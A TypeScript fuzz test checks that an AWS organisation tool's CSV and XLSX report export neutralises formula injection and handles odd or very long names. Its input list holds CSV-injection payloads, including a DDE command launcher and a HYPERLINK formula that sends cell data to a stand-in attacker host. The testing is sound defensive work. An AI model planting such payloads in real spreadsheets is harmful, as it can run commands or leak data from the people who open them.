// Bad input: report cells. Account names, OU paths and connection names come from the Organization (anyone with
// organizations:CreateAccount names accounts), so random text — formula starters, quotes, commas, newlines,
// unicode, 40 000-character names — goes through renderCsvReport and renderXlsxReport and is read back with a real
// parser (exceljs / fast-csv): every row survives, every cell is the input (neutralised with a leading ' when it
// could run as a formula; cut with an ellipsis at Excel's 32 767 characters in XLSX), no cell is a formula.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import type { Connection } from '../../main/core/health/index.js';
import {
  ACCOUNT_REPORT_COLUMNS,
  XLSX_MAX_CELL_CHARS,
  renderCsvReport,
  renderXlsxReport,
  type ReportInput,
} from '../../main/core/reports/index.js';

const FORMULA_START = /^[=+\-@\t\r]/;
const expectCell = (value: string): string => (FORMULA_START.test(value) ? `'${value}` : value);
const expectXlsxCell = (value: string): string => {
  const safe = expectCell(value);
  return safe.length > XLSX_MAX_CELL_CHARS ? `${safe.slice(0, XLSX_MAX_CELL_CHARS - 1)}…` : safe;
};

const hostile = fc.oneof(
  fc.string({ maxLength: 30 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.constantFrom(
    '=1+1',
    '+cmd|calc',
    '-2',
    '@SUM(A1)',
    '\t=x',
    '\r=x',
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    'a,b',
    '"quoted"',
    'line one\nline two',
    'crlf\r\ninside',
    ' leading space',
    'trailing space ',
    '',
  ),
  fc.nat({ max: 3 }).map((n) => ['x', '=', '日本', '"'][n]?.repeat(33_000 + n * 2000) ?? ''),
);
// CSV readers cannot tell a lone trailing CR from a line end; names with one are still written correctly but
// compared after CR→LF normalisation below.

const accountId = fc.stringMatching(/^\d{12}$/);
const connection = fc
  .record({ accountId, accountName: hostile, ouPath: hostile, connectionName: hostile })
  .map((c): Connection => ({
    managementAccountId: '111122223333',
    accountId: c.accountId,
    accountName: c.accountName,
    ouPath: c.ouPath,
    kind: 'resource',
    connectionName: c.connectionName,
    stackName: 'orgconnect-resource',
    region: 'us-east-1',
    roleName: 'orgconnect-platform-resource',
    rolePath: '/',
    platformAccountId: '061190967865',
    externalIdSha256: 'a'.repeat(64),
    externalIdLast4: 'abcd',
  }));
const connections = fc.uniqueArray(connection, { selector: (c) => c.accountId, minLength: 1, maxLength: 4 });

async function readCsv(text: string): Promise<string[][]> {
  const workbook = new ExcelJS.Workbook();
  const sheet = await workbook.csv.read(Readable.from([text]), {
    parserOptions: { delimiter: ',' },
    map: (value: string) => value,
  });
  const rows: string[][] = [];
  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((v) => String(v ?? ''))));
  return rows;
}

// The CSV and the Connections sheet have the report's columns plus Status (report-accounts.ts).
const column = (key: (typeof ACCOUNT_REPORT_COLUMNS)[number]['key']): number =>
  ACCOUNT_REPORT_COLUMNS.findIndex((c) => c.key === key);
const normaliseEol = (text: string): string => text.replace(/\r\n?/g, '\n');

describe('reports under hostile names', () => {
  test('CSV: every row and cell reads back as given (neutralised), nothing becomes a formula', async () => {
    let cases = 0;
    await fc.assert(
      fc.asyncProperty(connections, async (list) => {
        cases += 1;
        const input: ReportInput = { connections: list, health: {}, generatedAt: '2026-01-01T00:00:00Z' };
        const csv = renderCsvReport(input, { bom: false });
        const rows = await readCsv(csv);
        assert.equal(rows.length, list.length + 1, 'one row per connection, plus the header');
        const byId = new Map(rows.slice(1).map((row) => [row[column('accountId')], row]));
        for (const c of list) {
          const row = byId.get(c.accountId);
          assert.ok(row, c.accountId);
          assert.equal(row.length, ACCOUNT_REPORT_COLUMNS.length);
          for (const [key, value] of [
            ['accountName', c.accountName],
            ['ouPath', c.ouPath],
            ['connectionName', c.connectionName],
          ] as const) {
            const cell: string = row[column(key)] ?? '';
            // fast-csv reads an unquoted whitespace-only *first* field of a line as '' (its quirk: RFC 4180 keeps
            // spaces, and ' ,a' parses as ['', 'a']); the bytes written are right, so accept that one loss.
            if (key === 'connectionName' && value.trim() === '' && cell === '') continue;
            assert.equal(
              normaliseEol(cell),
              normaliseEol(expectCell(value)),
              `${key} ${JSON.stringify(value.slice(0, 40))}`,
            );
            assert.doesNotMatch(cell, FORMULA_START, 'no cell starts like a formula');
          }
        }
      }),
      { numRuns: 120, seed: 9001 },
    );
    console.log(`CSV report fuzz: ${cases} cases, 0 crashes`);
  });

  test('XLSX: cells are strings equal to the neutralised (and length-capped) input', async () => {
    let cases = 0;
    await fc.assert(
      fc.asyncProperty(connections, async (list) => {
        cases += 1;
        const input: ReportInput = { connections: list, health: {}, generatedAt: '2026-01-01T00:00:00Z' };
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load((await renderXlsxReport(input)) as never);
        const sheet = workbook.getWorksheet('Connections');
        assert.ok(sheet);
        const rows = new Map<string, ExcelJS.Row>();
        sheet.eachRow((row, n) => {
          if (n > 1) rows.set(String(row.getCell(column('accountId') + 1).value), row);
        });
        assert.equal(rows.size, list.length);
        for (const c of list) {
          const row = rows.get(c.accountId);
          assert.ok(row);
          for (const [key, value] of [
            ['accountName', c.accountName],
            ['ouPath', c.ouPath],
            ['connectionName', c.connectionName],
          ] as const) {
            const cell: ExcelJS.Cell = row.getCell(column(key) + 1);
            const text: string = cell.value === null ? '' : String(cell.value);
            assert.ok(
              cell.type === ExcelJS.ValueType.String ||
                (value === '' && cell.type === ExcelJS.ValueType.Null),
              `${key} is text`,
            );
            assert.equal(
              normaliseEol(text),
              normaliseEol(expectXlsxCell(value)),
              `${key} ${JSON.stringify(value.slice(0, 40))}`,
            );
            assert.ok(text.length <= XLSX_MAX_CELL_CHARS);
          }
        }
      }),
      { numRuns: 60, seed: 9002 },
    );
    console.log(`XLSX report fuzz: ${cases} cases, 0 crashes`);
  });
});
